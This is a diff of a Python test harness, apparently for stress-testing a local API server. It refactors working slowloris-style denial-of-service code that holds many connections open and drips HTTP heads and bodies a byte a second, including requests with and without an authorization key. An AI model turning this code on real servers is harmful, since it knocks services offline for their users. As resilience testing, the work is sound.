@@ -17,7 +17,7 @@ import time
 from collections.abc import Callable, Iterator, Sequence
 from contextlib import AbstractContextManager, contextmanager
 from dataclasses import dataclass, field
-from itertools import count
+from itertools import count, islice
 from multiprocessing import get_context
 from socket import create_connection, socket
 from socketserver import BaseRequestHandler, ThreadingTCPServer
@@ -211,7 +211,7 @@ def _from_threads(
 @contextmanager
 def slow_heads(attacker: Attacker) -> Iterator[None]:
     """A thousand connections whose heads come a byte a second; those that are closed are opened anew."""
-    with _dripping(attacker, [b""]):
+    with _process(keep_dripping, attacker.developer.api_base, [b""]):
         yield
 
 
@@ -220,46 +220,25 @@ def slow_bodies(attacker: Attacker) -> Iterator[None]:
     """The same with whole heads, whose bodies come a byte a second: long ones with a right key, short ones without."""
     path = urlsplit(attacker.developer.api_base).path
     key = f"Authorization: {attacker.developer.headers['Authorization']}\r\n"
-    with _dripping(
-        attacker,
-        [
-            f"POST {path}/add/message HTTP/1.1\r\nHost: localhost\r\n{who}Content-Length: {size}\r\n\r\n{{".encode()
-            for who, size in ((key, LARGE_BODY), ("", SHORT_BODY))
-        ],
-    ):
+    heads = [
+        f"POST {path}/add/message HTTP/1.1\r\nHost: localhost\r\n{who}Content-Length: {size}\r\n\r\n{{".encode()
+        for who, size in ((key, LARGE_BODY), ("", SHORT_BODY))
+    ]
+    with _process(keep_dripping, attacker.developer.api_base, heads):
         yield
 
 
-@contextmanager
-def _dripping(attacker: Attacker, first: list[bytes]) -> Iterator[None]:
+def keep_dripping(base_url: str, first: list[bytes]) -> None:
     """Connections that send one of these at once and a byte a second from then on."""
-    over, numbers = Event(), count()
-    url = urlsplit(attacker.developer.api_base)
-    address = (url.hostname or "", url.port or 80)
-
-    def connect() -> socket:
-        number = next(numbers)
-        line = create_connection(address, 10, (ADDRESSES[number % len(ADDRESSES)], 0))
-        _is_sent(line, first[number // len(ADDRESSES) % len(first)])
-        return line
-
-    def drip() -> None:
-        lines: list[socket] = []
-        while not over.wait(1.0):
-            lines += [connect() for _ in range(SLOW_CONNECTIONS - len(lines))]
-            lines = [line for line in lines if _is_sent(line, b"G")]
-        for line in lines:
-            line.close()
-
-    thread = Thread(target=drip, name="attack", daemon=True)
-    thread.start()
-    try:
-        yield
-        if not thread.is_alive():
-            raise RuntimeError("the attack ended before its time")
-    finally:
-        over.set()
-        thread.join()
+    url = urlsplit(base_url)
+    address, lines, numbers = (url.hostname or "", url.port or 80), list[socket](), count()
+    while True:
+        for number in islice(numbers, SLOW_CONNECTIONS - len(lines)):
+            line = create_connection(address, 10, (ADDRESSES[number % len(ADDRESSES)], 0))
+            _is_sent(line, first[number // len(ADDRESSES) % len(first)])
+            lines.append(line)
+        time.sleep(1.0)
+        lines = [line for line in lines if _is_sent(line, b"G")]
 
 
 def _is_sent(line: socket, piece: bytes) -> bool:
